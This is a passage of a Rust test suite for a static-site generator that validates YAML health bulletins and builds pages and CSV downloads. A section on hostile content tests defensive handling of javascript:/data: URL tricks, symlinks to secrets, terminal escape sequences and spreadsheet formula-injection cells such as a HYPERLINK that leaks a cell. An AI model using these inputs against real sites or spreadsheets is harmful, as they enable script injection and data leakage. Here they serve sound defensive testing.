    let f = Fixture::bulletin("        value: 475725", "        valu: 475725");
    f.write("content/site.yaml", &edit(SITE_YAML, "author:", "autor:"));
    let d = f.fails();
    assert_eq!(d.0.len(), 2, "{d}");
    assert!(d.0.iter().any(|x| x.path == Path::new(BULLETIN)), "{d}");
    assert!(
        d.0.iter().any(|x| x.path == Path::new("content/site.yaml")),
        "{d}"
    );
    let site =
        d.0.iter()
            .find(|x| x.path == Path::new("content/site.yaml"))
            .unwrap();
    assert_diag(
        site,
        Severity::Error,
        "content/site.yaml",
        (5, 1),
        "`autor` is not one of the fields accepted here",
    );
}

#[test]
fn parse_error_does_not_hide_meaning_errors_elsewhere() {
    // A typo in one bulletin's YAML, an unknown metric in another's: both must be reported.
    let f = Fixture::bulletin("        value: 475725", "        valu: 475725");
    f.write(
        "content/bulletins/otra.yaml",
        &edit(
            BULLETIN_YAML,
            "metric: transplants.kidney",
            "metric: transplant.kidney",
        ),
    );
    f.write("content/bulletins/otra.md", BULLETIN_TEXT);
    let d = f.fails();
    assert_eq!(d.0.len(), 2, "{d}");
    assert_diag(
        &d.0[0],
        Severity::Error,
        "content/bulletins/jornada-prueba.yaml",
        (19, 9),
        "`valu` is not one of the fields accepted here",
    );
    assert_diag(
        &d.0[1],
        Severity::Error,
        "content/bulletins/otra.yaml",
        (22, 17),
        "unknown metric `transplant.kidney`",
    );
}

/// The base bulletin with two more reports (a stock and a target) after the jornada, each with
/// one figure the text states. Lines: 28 report `camas`, 33/34 its figure; 35 report `meta`,
/// 40/41 its figure.
fn three_reports() -> String {
    format!(
        "{BULLETIN_YAML}{}",
        r#"  - id: camas
    title: "Capacidad"
    kind: stock
    scope: [nacional]
    figures:
      - metric: surgeries
        value: 475725
  - id: meta
    title: "Meta"
    kind: target
    scope: [nacional]
    figures:
      - metric: transplants.kidney
        value: 10
"#
    )
}

#[test]
fn three_report_fixture_is_clean() {
    let f = Fixture::with(BULLETIN, &three_reports());
    let outcome = f.check().unwrap_or_else(|d| panic!("fixture fails:\n{d}"));
    assert!(outcome.diagnostics.is_empty(), "{}", outcome.diagnostics);
    let line = |n: usize| three_reports().lines().nth(n - 1).unwrap().to_string();
    assert_eq!(line(28), "  - id: camas");
    assert_eq!(line(34), "        value: 475725");
    assert_eq!(line(40), "      - metric: transplants.kidney");
}

/// One parse error per part of a bulletin: each is reported, and the parts that did parse are
/// still validated (the unknown metric in the third report is found in the same run).
fn two_broken_figures_and_an_unknown_metric() -> Fixture {
    let yaml = edit(
        &three_reports(),
        "        value: 12\n",
        "        value: \"doce\"\n",
    );
    let yaml = edit(
        &yaml,
        "        value: 475725\n  - id: meta",
        "        valor: 475725\n  - id: meta",
    );
    let yaml = edit(
        &yaml,
        "    figures:\n      - metric: transplants.kidney",
        "    figures:\n      - metric: transplant.kidney",
    );
    Fixture::with(BULLETIN, &yaml)
}

#[test]
fn parse_errors_in_two_reports_do_not_hide_each_other_or_a_bad_metric() {
    let f = two_broken_figures_and_an_unknown_metric();
    let d = f.fails();
    assert_eq!(d.0.len(), 3, "{d}");
    assert_diag(
        &d.0[0],
        Severity::Error,
        BULLETIN,
        (21, 16),
        "expected a number, found the text \"doce\"",
    );
    assert_diag(
        &d.0[1],
        Severity::Error,
        BULLETIN,
        (34, 9),
        "`valor` is not one of the fields accepted here",
    );
    assert_hint(&d.0[1], "check the spelling");
    assert_diag(
        &d.0[2],
        Severity::Error,
        BULLETIN,
        (40, 17),
        "unknown metric `transplant.kidney`",
    );
}

#[test]
fn cli_check_lists_every_parse_error_of_a_file_and_writes_nothing() {
    let f = two_broken_figures_and_an_unknown_metric();
    let before = snapshot(f.root());
    let out = f.cli(&["check"]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    for at in [":21:16: error:", ":34:9: error:", ":40:17: error:"] {
        assert!(
            stderr.contains(&format!("{BULLETIN}{at}")),
            "{at} missing in:\n{stderr}"
        );
    }
    assert_eq!(stderr.matches(": error:").count(), 3, "{stderr}");
    assert!(snapshot(f.root()) == before, "check wrote something");
    // And build refuses it: no site, not even the parts that parsed, and no build cache
    // either (the one it set up is removed again).
    let out = f.cli(&["build"]);
    assert_eq!(out.status.code(), Some(1));
    let after = snapshot(f.root());
    assert!(
        after == before,
        "a failed build wrote something: {:?}",
        after
            .keys()
            .filter(|k| !before.contains_key(*k))
            .collect::<Vec<_>>()
    );
    assert!(!f.root().join("public").exists());
}

/// `serve` keeps parsed bulletins between rebuilds; one that parsed only in part must not be
/// kept, or its parse errors would vanish from the second rebuild on.
#[test]
fn serve_gives_a_partly_parsed_bulletins_errors_on_every_rebuild() {
    let f = two_broken_figures_and_an_unknown_metric();
    let memo = cifras::memo::Memo::default();
    for rebuild in 0..2 {
        let (sources, diags) =
            cifras::load::load_with(f.root(), Some(&memo)).expect("the catalogues parse");
        assert_eq!(diags.errors().count(), 2, "rebuild {rebuild}: {diags}");
        assert_eq!(
            sources.bulletins.len(),
            1,
            "its good parts go on to validate"
        );
        assert_eq!(sources.bulletins[0].yaml.data.reports.len(), 3);
    }
}

#[test]
fn a_report_missing_a_field_is_reported_and_its_figures_still_checked() {
    // No `kind` in the second report, a typo in the first's figure: both reported, once each.
    let yaml = edit(&three_reports(), "    kind: stock\n", "");
    let yaml = edit(&yaml, "        value: 2\n", "        value: -2\n");
    let f = Fixture::with(BULLETIN, &yaml);
    let d = f.fails();
    assert_eq!(d.0.len(), 2, "{d}");
    assert_diag(
        &d.0[0],
        Severity::Error,
        BULLETIN,
        (25, 16),
        "negative figure -2",
    );
    // Located where the report starts, as the field is written nowhere.
    assert_diag(
        &d.0[1],
        Severity::Error,
        BULLETIN,
        (28, 5),
        "the field `kind` is missing",
    );
}

#[test]
fn a_misspelt_top_level_field_is_one_message_and_the_reports_are_still_read() {
    let yaml = edit(
        &two_broken_figures_and_an_unknown_metric_yaml(),
        "title: \"Jornada nacional de prueba\"",
        "titel: \"Jornada nacional de prueba\"",
    );
    let f = Fixture::with(BULLETIN, &yaml);
    let d = f.fails();
    // The typo, once (not also "the field `title` is missing"), and both broken figures; the
    // unknown metric is not looked up, as the bulletin's top level did not parse.
    assert_eq!(d.0.len(), 3, "{d}");
    assert_diag(
        &d.0[0],
        Severity::Error,
        BULLETIN,
        (1, 1),
        "`titel` is not one of the fields",
    );
    assert_eq!(d.0[1].pos, Pos::new(21, 16), "{d}");
    assert_eq!(d.0[2].pos, Pos::new(34, 9), "{d}");
}

fn two_broken_figures_and_an_unknown_metric_yaml() -> String {
    fs::read_to_string(
        two_broken_figures_and_an_unknown_metric()
            .root()
            .join(BULLETIN),
    )
    .unwrap()
}

#[test]
fn a_syntax_error_still_stops_the_file_with_one_message() {
    let yaml = edit(&three_reports(), "    title: \"Meta\"", "    title: \"Meta");
    let f = Fixture::with(BULLETIN, &yaml);
    let d = f.single_error();
    assert_eq!(d.path, Path::new(BULLETIN), "{d}");
}

#[test]
fn a_broken_catalogue_does_not_hide_bulletin_parse_errors() {
    let f = two_broken_figures_and_an_unknown_metric();
    f.write(
        "content/metrics.yaml",
        &edit(
            &edit(
                METRICS_YAML,
                "    unit: cirugías\n",
                "    units: cirugías\n",
            ),
            "    group: consultations",
            "    group: consultation",
        ),
    );
    let d = f.fails();
    // Both metrics.yaml problems and both bulletin parse errors; the unknown metric cannot be
    // looked up without the catalogue, so it is not reported.
    let at: Vec<(String, u32, u32)> =
        d.0.iter()
            .map(|x| (x.path.display().to_string(), x.pos.line, x.pos.col))
            .collect();
    assert_eq!(
        at,
        [
            ("content/metrics.yaml".to_string(), 5, 5),
            ("content/metrics.yaml".to_string(), 32, 12),
            (BULLETIN.to_string(), 21, 16),
            (BULLETIN.to_string(), 34, 9),
        ],
        "{d}"
    );
}

// ---------------------------------------------------------------------------------------------
// Metrics and places
// ---------------------------------------------------------------------------------------------

#[test]
fn metric_parent_cycle() {
    let metrics = format!(
        "{METRICS_YAML}  - id: alpha
    slug: alfa
    label: \"Alfa\"
    unit: cosas
    group: other
    parent: beta
    definition: \"Alfa.\"
  - id: beta
    slug: beta
    label: \"Beta\"
    unit: cosas
    group: other
    parent: alpha
    definition: \"Beta.\"
"
    );
    let f = Fixture::with("content/metrics.yaml", &metrics);
    let d = f.fails();
    assert_eq!(d.0.len(), 2, "{d}");
    assert_diag(
        &d.0[0],
        Severity::Error,
        "content/metrics.yaml",
        (39, 13),
        "metric `alpha` is its own ancestor",
    );
    assert_diag(
        &d.0[1],
        Severity::Error,
        "content/metrics.yaml",
        (46, 13),
        "metric `beta` is its own ancestor",
    );
    assert_hint(&d.0[0], "tree");
}

#[test]
fn office_without_state() {
    let f = Fixture::with(
        "content/places.yaml",
        &edit(PLACES_YAML, "    state: veracruz\n", ""),
    );
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        "content/places.yaml",
        (10, 11),
        "place `veracruz-sur` needs a `state`",
    );
    assert_hint(&d, "state: ");
}

// ---------------------------------------------------------------------------------------------
// The command line
// ---------------------------------------------------------------------------------------------

#[test]
fn cli_check_reports_location_and_exits_1() {
    let f = Fixture::bulletin("metric: transplants.kidney", "metric: transplant.kidney");
    let out = f.cli(&["check"]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(
            "content/bulletins/jornada-prueba.yaml:22:17: error: unknown metric `transplant.kidney`"
        ),
        "stderr:\n{stderr}"
    );
    assert!(
        stderr.contains("= hint: did you mean `transplants.kidney`"),
        "stderr:\n{stderr}"
    );
}

#[test]
fn cli_check_passes_on_valid_fixture() {
    let f = Fixture::new();
    let out = f.cli(&["check"]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "stderr:\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Build the fixture, break it with `breakage`, build again into the same folder: the second
/// build must fail, leave the first one's files exactly as they were and no staging directory
/// behind. Returns the second build's stderr.
fn failed_rebuild_keeps_previous_output(breakage: impl FnOnce(&Fixture)) -> String {
    let f = Fixture::new();
    let tmp = tempfile::tempdir().unwrap();
    let out_dir = tmp.path().join("out");
    let out_arg = out_dir.to_str().unwrap();
    let first = f.cli(&["build", "--output", out_arg]);
    assert_eq!(
        first.status.code(),
        Some(0),
        "stderr:\n{}",
        String::from_utf8_lossy(&first.stderr)
    );
    let before = snapshot(&out_dir);
    assert!(before.len() > 5, "the first build wrote a site");

    breakage(&f);
    let second = f.cli(&["build", "--output", out_arg]);
    assert_eq!(second.status.code(), Some(1));
    assert!(snapshot(&out_dir) == before, "the previous build changed");
    let siblings: Vec<_> = fs::read_dir(tmp.path()).unwrap().collect();
    assert_eq!(siblings.len(), 1, "no staging directory left behind");
    String::from_utf8_lossy(&second.stderr).into_owned()
}

#[test]
fn cli_failed_build_leaves_previous_output_untouched() {
    let stderr = failed_rebuild_keeps_previous_output(|f| {
        f.write(BULLETIN, &edit(BULLETIN_YAML, "value: 475725", "value: -5"))
    });
    assert!(
        stderr.contains("content/bulletins/jornada-prueba.yaml:19:16: error:"),
        "stderr:\n{stderr}"
    );
}

/// A template that fails on one page only: the pages rendered before it were already written
/// to the staging directory, which must go, leaving the previous build as it was.
#[test]
fn cli_build_failing_while_rendering_leaves_previous_output_untouched() {
    let stderr = failed_rebuild_keeps_previous_output(|f| {
        f.write(
            "templates/404.html",
            "{% extends \"base.html\" %}{% block content %}{{ missing_variable.field }}{% endblock content %}",
        )
    });
    assert!(stderr.contains("templates/404.html"), "stderr:\n{stderr}");
}

/// `check` draws no chart, but still renders every page that shows one: a template that fails
/// only on a chart's embed page, and only for a chart with bars, is reported.
#[test]
fn check_renders_chart_pages_without_drawing_them() {
    let f = Fixture::new();
    f.write(
        "templates/embed.html",
        "{% if chart.rows | length > 1 %}{{ chart.no_such_field }}{% endif %}",
    );
    let d = f.fails();
    let text = d.to_string();
    assert!(text.contains("templates/embed.html"), "{text}");
    assert!(text.contains("no_such_field"), "{text}");
    assert!(text.contains("while rendering graficas/"), "{text}");
}

#[test]
fn cli_build_refuses_foreign_non_empty_directory() {
    let f = Fixture::new();
    let tmp = tempfile::tempdir().unwrap();
    let mine = tmp.path().join("mine");
    fs::create_dir(&mine).unwrap();
    fs::write(mine.join("thesis.txt"), "no borrar").unwrap();
    fs::create_dir(mine.join("chapters")).unwrap();
    fs::write(mine.join("chapters/1.md"), "capítulo 1").unwrap();
    let before = snapshot(&mine);
    let out = f.cli(&["build", "--output", mine.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("refusing to replace"), "stderr:\n{stderr}");
    assert!(snapshot(&mine) == before, "the foreign directory changed");
    let siblings: Vec<_> = fs::read_dir(tmp.path()).unwrap().collect();
    assert_eq!(siblings.len(), 1, "nothing written beside it");
}

// ---------------------------------------------------------------------------------------------
// Hostile content: URLs, links to files, sums, sizes, terminal escapes (issue 16)
// ---------------------------------------------------------------------------------------------

#[test]
fn script_url_as_bulletin_source_is_a_located_error() {
    let f = Fixture::bulletin(
        "  url: null",
        "  url: \"JavaScript:alert(document.domain)\"",
    );
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (7, 8),
        "the URL scheme `javascript` is not allowed",
    );
    assert_hint(&d, "https://");
}

/// Every trick a browser forgives (case, leading space, tab, entity) is refused in `links`,
/// each at its own line; http, https, mailto and relative links pass.
#[test]
fn unsafe_links_in_site_yaml_are_refused_with_every_trick() {
    let links = [
        ("https://www.imss.gob.mx/", true),
        ("mailto:prensa@imss.gob.mx", true),
        ("../metodologia/", true),
        ("javascript:alert(1)", false),
        ("  JAVASCRIPT:alert(1)", false),
        ("java\\tscript:alert(1)", false),
        ("javascript&colon;alert(1)", false),
        ("data:text/html;base64,PHNjcmlwdD4=", false),
        ("vbscript:msgbox(1)", false),
        ("\\u0001javascript:alert(1)", false),
    ];
    let mut site = format!("{SITE_YAML}links:\n");
    for (url, _) in links {
        site.push_str(&format!("  - label: \"x\"\n    url: \"{url}\"\n"));
    }
    let f = Fixture::with("content/site.yaml", &site);
    let d = f.fails();
    let lines: Vec<u32> = d.0.iter().map(|d| d.pos.line).collect();
    let expected: Vec<u32> = links
        .iter()
        .enumerate()
        .filter(|(_, (_, ok))| !ok)
        .map(|(i, _)| 9 + 2 * i as u32)
        .collect();
    assert_eq!(lines, expected, "{d}");
    for diag in &d.0 {
        assert_eq!(diag.path, Path::new("content/site.yaml"));
        assert_eq!(diag.pos.col, 10, "{diag}");
    }
    // `check --strict` fails too (and plain `check`: these are errors).
    let out = f.cli(&["check", "--strict"]);
    assert_eq!(out.status.code(), Some(1));
}

#[test]
fn script_link_in_bulletin_text_is_located_in_the_text() {
    let f = Fixture::new();
    f.write(
        BULLETIN_MD,
        &format!("{BULLETIN_TEXT}\nVer [el boletín](JavaScript&colon;alert(1)) y ![x](data:image/svg+xml,x).\n"),
    );
    let d = f.fails();
    let at: Vec<(u32, u32)> = d.0.iter().map(|d| (d.pos.line, d.pos.col)).collect();
    let line = BULLETIN_TEXT.lines().count() as u32 + 2;
    assert_eq!(at, [(line, 5), (line, 47)], "{d}");
    assert!(d.0.iter().all(|d| d.path == Path::new(BULLETIN_MD)));
}

/// A catalogue, a bulletin text, a template, a static file or a whole folder that is a
/// symbolic link is refused, and what it points to is never read or quoted.
#[cfg(unix)]
#[test]
fn symlinked_content_is_refused_and_never_quoted() {
    use std::os::unix::fs::symlink;
    let secrets = tempfile::tempdir().unwrap();
    let secret = secrets.path().join("environ");
    fs::write(&secret, "title: CIFRAS_SECRET_TOKEN=hunter2\n").unwrap();
    for rel in [
        "content/site.yaml",
        "content/metrics.yaml",
        "content/places.yaml",
        BULLETIN_MD,
        BULLETIN,
        "templates/base.html",
        "static/style.css",
    ] {
        let f = Fixture::new();
        let p = f.root().join(rel);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        let _ = fs::remove_file(&p);
        symlink(&secret, &p).unwrap();
        let out = f.cli(&["check"]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{rel}: {stderr}");
        assert!(
            stderr.contains(&format!("{rel}: error: is a symbolic link")),
            "{rel}: {stderr}"
        );
        assert!(!stderr.contains("hunter2"), "{rel}: {stderr}");
    }
    // A whole folder replaced by a link.
    for dir in ["content/bulletins", "templates", "static"] {
        let f = Fixture::new();
        let target = secrets.path().join(dir.replace('/', "_"));
        fs::create_dir_all(&target).unwrap();
        let p = f.root().join(dir);
        if p.exists() {
            fs::rename(&p, target.join("moved")).unwrap();
        }
        symlink(&target, &p).unwrap();
        let d = f.fails();
        assert!(
            d.0.iter()
                .any(|d| d.path.starts_with(dir) && d.message.contains("symbolic link")),
            "{dir}: {d}"
        );
    }
}

/// Parts of 18446744073709551615 and 2 must not wrap round to "equal" a total of 1.
#[test]
fn sum_of_parts_that_overflows_is_a_located_error() {
    let yaml = edit(
        BULLETIN_YAML,
        "value: 10\n",
        "value: 18446744073709551615\n",
    );
    let yaml = edit(&yaml, "        value: 12\n", "        value: 1\n");
    let f = Fixture::with(BULLETIN, &yaml);
    let d = f.fails();
    let errors: Vec<&Diagnostic> = d.errors().collect();
    assert_eq!(errors.len(), 1, "{d}");
    assert_diag(
        errors[0],
        Severity::Error,
        BULLETIN,
        (20, 17),
        "the parts of `transplants` add up to more than 18446744073709551615",
    );
}

/// A 240-character slug used to pass `check` and fail `build` with "File name too long".
#[test]
fn overlong_slugs_are_refused_by_check_with_the_limit() {
    let long = "a".repeat(240);
    let f = Fixture::new();
    f.rename(BULLETIN, &format!("content/bulletins/{long}.yaml"));
    f.rename(BULLETIN_MD, &format!("content/bulletins/{long}.md"));
    let d = f.single_error();
    assert!(
        d.message.contains("240 characters long; the limit is 100"),
        "{d}"
    );

    let f = Fixture::with(
        "content/metrics.yaml",
        &edit(METRICS_YAML, "slug: cirugias", &format!("slug: {long}")),
    );
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        "content/metrics.yaml",
        (3, 11),
        "this slug or id is 240 characters long; the limit is 100",
    );
}

/// A 1 MB title used to be copied into every page that lists the bulletin (389 MB of output).
#[test]
fn oversized_fields_are_refused_with_the_limit() {
    let huge = "x".repeat(1 << 20);
    let f = Fixture::bulletin(
        "title: \"Jornada nacional de prueba\"",
        &format!("title: \"{huge}\""),
    );
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (1, 8),
        "this title, label or name is 1048576 characters long; the limit is 300",
    );
    let note = "n".repeat(5001);
    let f = Fixture::with(
        "content/places.yaml",
        &format!("{PLACES_YAML}    note: \"{note}\"\n"),
    );
    let d = f.single_error();
    assert!(d.message.contains("the limit is 5000"), "{d}");
}

/// Content is quoted in messages: a terminal escape sequence in it is shown, not obeyed.
#[test]
fn terminal_escapes_in_content_are_printed_escaped() {
    let f = Fixture::bulletin(
        "metric: transplants.kidney",
        "metric: \"transplants\\e[2J\\e]0;pwned\\a\"",
    );
    let out = f.cli(&["check"]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !out.stderr.iter().any(|&b| b == 0x1b || b == 0x07),
        "raw control bytes reached the terminal:\n{stderr}"
    );
    assert!(
        stderr.contains(r"unknown metric `transplants\u{1b}[2J\u{1b}]0;pwned\u{7}`"),
        "{stderr}"
    );
}

/// Cells a spreadsheet would run as a formula get a leading `'`, in every CSV the site
/// writes (all figures, per indicator, per place, per chart); numbers stay numbers.
#[test]
fn csv_cells_that_look_like_formulas_are_neutralised() {
    let f = Fixture::bulletin(
        "title: \"Jornada del 10 al 12 de septiembre\"",
        "title: \"=HYPERLINK(\\\"http://x/?\\\"&A1)\"",
    );
    f.write(
        "content/metrics.yaml",
        &edit(METRICS_YAML, "label: \"Cirugías\"", "label: \"+Cirugías\""),
    );
    f.write(
        "content/places.yaml",
        &edit(PLACES_YAML, "name: \"Nacional\"", "name: \"@Nacional\""),
    );
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    cifras::build(f.root(), &out).unwrap_or_else(|d| panic!("{d}"));
    let mut files = 0;
    let mut quoted = 0;
    for (path, bytes) in snapshot(&out) {
        if path.extension().is_none_or(|e| e != "csv") {
            continue;
        }
        files += 1;
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&bytes[..]);
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                if cell.parse::<f64>().is_ok() {
                    continue; // a number written as a number
                }
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{}: formula cell {cell:?}",
                    path.display()
                );
                quoted += usize::from(
                    cell.starts_with("'=") || cell.starts_with("'+") || cell.starts_with("'@"),
                );
            }
        }
    }
    assert!(files >= 4, "all, indicator, place and chart CSVs: {files}");
    assert!(
        quoted >= 4,
        "the hostile cells were written, quoted: {quoted}"
    );
    let all = fs::read_to_string(out.join("datos/cifras.csv")).unwrap();
    assert!(all.contains(",475725,"), "values stay numbers:\n{all}");
}

// ---------------------------------------------------------------------------------------------
// Metric aliases
// ---------------------------------------------------------------------------------------------

#[test]
fn aliases_are_accepted() {
    let yaml = format!("{METRICS_YAML}    aliases:\n      - \"consulta\"\n      - \"Consultas\"\n");
    let f = Fixture::with("content/metrics.yaml", &yaml);
    let o = f.check().expect("aliases are valid");
    assert!(o.diagnostics.is_empty(), "{}", o.diagnostics);
}

#[test]
fn an_alias_naming_another_metric_is_an_error() {
    // "cirugias" folds to the label of `surgeries` (line 4)
    let yaml = format!("{METRICS_YAML}    aliases:\n      - \"consulta\"\n      - \"CIRUGIAS\"\n");
    let f = Fixture::with("content/metrics.yaml", &yaml);
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        "content/metrics.yaml",
        (36, 9),
        "the alias \"CIRUGIAS\" also names `surgeries` (line 4)",
    );
    assert_hint(&d, "one indicator only");
}

// ---------------------------------------------------------------------------------------------
// What the text says exactly: derived totals, a figure's own kind/period/scope, partial and
// unknown dates, the kind of source (issue 15). Each case valid (built and looked at) and
// broken (located messages).
// ---------------------------------------------------------------------------------------------

/// Build into a temporary folder; returns a reader of its files.
fn built(f: &Fixture) -> (tempfile::TempDir, impl Fn(&str) -> String) {
    let out = tempfile::tempdir().unwrap();
    let outcome = cifras::build(f.root(), out.path()).unwrap_or_else(|d| panic!("{d}"));
    assert!(
        outcome.diagnostics.is_empty(),
        "warnings: {}",
        outcome.diagnostics
    );
    let dir = out.path().to_path_buf();
    (out, move |rel: &str| {
        fs::read_to_string(dir.join(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"))
    })
}

/// The CSV row of `metric` in a download, as a map of column to cell.
fn csv_row(csv: &str, metric: &str) -> BTreeMap<String, String> {
    let mut lines = csv.lines();
    let header: Vec<String> = lines.next().unwrap().split(',').map(String::from).collect();
    let row = lines
        .find(|l| l.contains(&format!(",{metric},")))
        .unwrap_or_else(|| panic!("no {metric} row in:\n{csv}"));
    // the fixture's cells hold no commas or quotes
    header
        .into_iter()
        .zip(row.split(',').map(String::from))
        .collect()
}

/// The fixture where the text gives the kidney and heart transplants but not their total.
fn unstated_total(total_yaml: &str) -> Fixture {
    let f = Fixture::bulletin(
        "      - metric: transplants\n        value: 12\n",
        total_yaml,
    );
    f.write(
        BULLETIN_MD,
        &edit(BULLETIN_TEXT, "y 12 trasplantes: ", "y trasplantes: "),
    );
    f
}

#[test]
fn derived_total_is_checked_and_shown_as_computed() {
    // Without `derived`, a total the text does not state is a warning...
    let plain = unstated_total("      - metric: transplants\n        value: 12\n");
    let said = plain.check().unwrap().diagnostics.to_string();
    assert!(
        said.contains("12 (transplants) is stated in") && said.contains("about something else"),
        "{said}"
    );
    // ...with it, the build is clean and every output says it is computed.
    let f =
        unstated_total("      - metric: transplants\n        value: 12\n        derived: true\n");
    let (_out, read) = built(&f);
    let page = read(&format!("boletines/{SLUG}/index.html"));
    assert!(page.contains(">suma calculada</span>"), "{page}");
    assert!(page.contains("Total calculado: la suma de las partes"));
    let row = csv_row(&read("datos/cifras.csv"), "transplants");
    assert_eq!(row["derived"], "true");
    assert_eq!(
        csv_row(&read("datos/cifras.csv"), "surgeries")["derived"],
        "false"
    );
    let json = read("datos/cifras.json");
    let rows: serde_json::Value = serde_json::from_str(&json).unwrap();
    let total = rows
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["metric"] == "transplants")
        .unwrap();
    assert_eq!(total["derived"], true, "{total}");
    let methodology = read("metodologia/index.html");
    assert!(methodology.contains("<strong>1</strong> es un total calculado"));
    let explained = f.cli(&["check", "--explain"]);
    let said = String::from_utf8_lossy(&explained.stdout);
    assert!(
        said.contains(&format!(
            "{BULLETIN}:21:16: transplants 12: derived: the sum of its parts"
        )),
        "{said}"
    );
}

#[test]
fn derived_total_that_is_not_the_sum_is_a_located_error() {
    let f =
        unstated_total("      - metric: transplants\n        value: 13\n        derived: true\n");
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (21, 16),
        "`transplants` is marked `derived` as 13 but its parts add up to 12 (transplants.kidney 10 + transplants.heart 2)",
    );
}

#[test]
fn derived_needs_parts_and_must_not_be_stated() {
    // surgeries has no sub-indicators
    let f = Fixture::bulletin(
        "        value: 475725\n",
        "        value: 475725\n        derived: true\n",
    );
    let all = f.fails();
    let d = all.errors().next().unwrap();
    assert_diag(
        d,
        Severity::Error,
        BULLETIN,
        (20, 18),
        "`surgeries` is marked `derived` but none of its parts is given beside it",
    );
    assert_hint(d, "has no sub-indicators");
    // (and the text states 475 mil 725 cirugías: the warning below says so too)
    assert_eq!(all.0.len(), 2, "{all}");
    // a total the text does state is not derived
    let f = Fixture::bulletin(
        "        value: 12\n",
        "        value: 12\n        derived: true\n",
    );
    let outcome = f.check().unwrap();
    let w = &outcome.diagnostics.0;
    assert_eq!(w.len(), 1, "{}", outcome.diagnostics);
    assert_diag(
        &w[0],
        Severity::Warning,
        BULLETIN,
        (21, 16),
        "is marked `derived` but the text states it",
    );
}

#[test]
fn a_figure_may_set_its_own_kind_period_and_scope() {
    let f = Fixture::bulletin(
        "      - metric: consultations\n        value: 2106\n",
        "      - metric: consultations\n        value: 2106\n        kind: stock\n        period: { as_of: 2021-09-12 }\n        scope: [veracruz-sur]\n",
    );
    let (_out, read) = built(&f);
    let page = read(&format!("boletines/{SLUG}/index.html"));
    assert!(
        page.contains("<strong>Esta cifra:</strong> Conteo; al 12 de septiembre de 2021; abarca Veracruz Sur."),
        "{page}"
    );
    let row = csv_row(&read("datos/cifras.csv"), "consultations");
    assert_eq!(
        (
            row["kind"].as_str(),
            row["as_of"].as_str(),
            row["period_start"].as_str(),
            row["scope"].as_str(),
            row["days"].as_str()
        ),
        ("stock", "2021-09-12", "", "veracruz-sur", "")
    );
    assert_eq!(
        csv_row(&read("datos/cifras.csv"), "surgeries")["kind"],
        "event"
    );
    // the place's download has it as its own; the national one does not have it at all
    let place = read("datos/lugares/veracruz-sur.csv");
    assert!(
        place
            .lines()
            .nth(1)
            .is_some_and(|l| l.contains(",consultations,") && l.ends_with(",own")),
        "{place}"
    );
    assert!(!read("datos/lugares/nacional.csv").contains(",consultations,"));
}

#[test]
fn a_figure_period_that_does_not_fit_its_kind_is_a_located_error() {
    // a stock inside an event report keeps the report's days unless it says its date
    let f = Fixture::bulletin(
        "        value: 2106\n",
        "        value: 2106\n        kind: stock\n",
    );
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (28, 15),
        "this period does not fit figures of kind `stock`",
    );
    assert_hint(&d, "use `as_of`");
    // and not after the bulletin came out
    let f = Fixture::bulletin(
        "        value: 2106\n",
        "        value: 2106\n        kind: stock\n        period: { as_of: 2021-09-20 }\n",
    );
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (29, 17),
        "the period ends on 2021-09-20, after the bulletin's date 2021-09-13",
    );
    // an unknown place in a figure's scope
    let f = Fixture::bulletin(
        "        value: 2106\n",
        "        value: 2106\n        scope: [atlantis]\n",
    );
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (28, 17),
        "unknown place `atlantis`",
    );
}

/// The base fixture with the bulletin's `date:` line replaced by `date`, and its report's
/// period `from` replaced by `to`.
fn dated(date: &str, from: &str, to: &str) -> Fixture {
    let yaml = edit(&edit(BULLETIN_YAML, "date: 2021-09-13\n", date), from, to);
    Fixture::with(BULLETIN, &yaml)
}

#[test]
fn dates_given_only_to_the_month_or_year_are_shown_so_and_get_no_day() {
    let f = dated(
        "date: 2021\ndate_note: \"El boletín da solo el año.\"\n",
        "      start: 2021-09-10\n      end: 2021-09-12\n",
        "      start: 2021-09\n      end: 2021-09\n",
    );
    let (_out, read) = built(&f);
    let page = read(&format!("boletines/{SLUG}/index.html"));
    assert!(
        page.contains("2021 (el boletín no da día ni mes)"),
        "{page}"
    );
    assert!(page.contains("<span>septiembre de 2021</span>"), "{page}");
    let row = csv_row(&read("datos/cifras.csv"), "surgeries");
    assert_eq!(
        (
            row["bulletin_date"].as_str(),
            row["period_start"].as_str(),
            row["period_end"].as_str(),
            row["days"].as_str()
        ),
        ("2021", "2021-09", "2021-09", "")
    );
    // no per-day rate, no feed date made up from the year
    assert!(
        !page.contains("Por día: 15"),
        "a per-day rate from invented days"
    );
    let feed = read("feed.xml");
    assert!(!feed.contains("<published>"), "{feed}");
    assert!(
        feed.contains("El boletín indica solo 2021 como fecha de publicación"),
        "{feed}"
    );
}

#[test]
fn unknown_event_dates_are_allowed_said_and_listed_apart() {
    let f = dated(
        "date: null\ndate_note: \"El boletín no indica fecha.\"\n",
        "    period:\n      start: 2021-09-10\n      end: 2021-09-12\n",
